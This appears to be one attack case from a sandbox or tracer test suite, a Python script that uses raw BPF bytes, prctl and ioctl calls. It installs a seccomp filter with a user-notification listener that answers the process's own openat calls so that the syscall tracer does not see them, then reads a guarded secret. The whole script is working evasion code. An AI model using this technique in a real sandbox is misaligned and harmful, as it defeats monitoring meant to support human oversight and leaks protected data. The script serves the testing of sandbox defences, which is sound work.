# SPDX-License-Identifier: Apache-2.0
# attack: a filter with a notification listener answers its own calls, past the tracer
# class: self
# wins: leak
# logged: seccomp
from kit import *

tried()
nr = NR['openat']
f = ctypes.create_string_buffer(struct.pack('<HBBIHBBIHBBIHBBI', 0x20, 0, 0, 0, 0x15, 0, 1, nr, 6, 0, 0, 0x7fc00000, 6, 0, 0, 0x7fff0000))
prog = ctypes.create_string_buffer(struct.pack('<HxxxxxxQ', 4, address(f)))
sc('prctl', 38, 1, 0, 0, 0)
fd = -1


def opener():
    global fd
    fd = sc('seccomp', 1, 8, prog)
    if fd >= 0:
        say('OPENED', 0)
        take(SECRET)


t = threading.Thread(target=opener, daemon=True)
t.start()
time.sleep(0.2)
if fd >= 0:
    req = ctypes.create_string_buffer(80)
    if sc('ioctl', fd, 0xc0502100, req) == 0:
        ident = struct.unpack_from('<Q', req)[0]
        sc('ioctl', fd, 0xc0182101, struct.pack('<QqiI', ident, 0, 0, 1))
t.join(2)
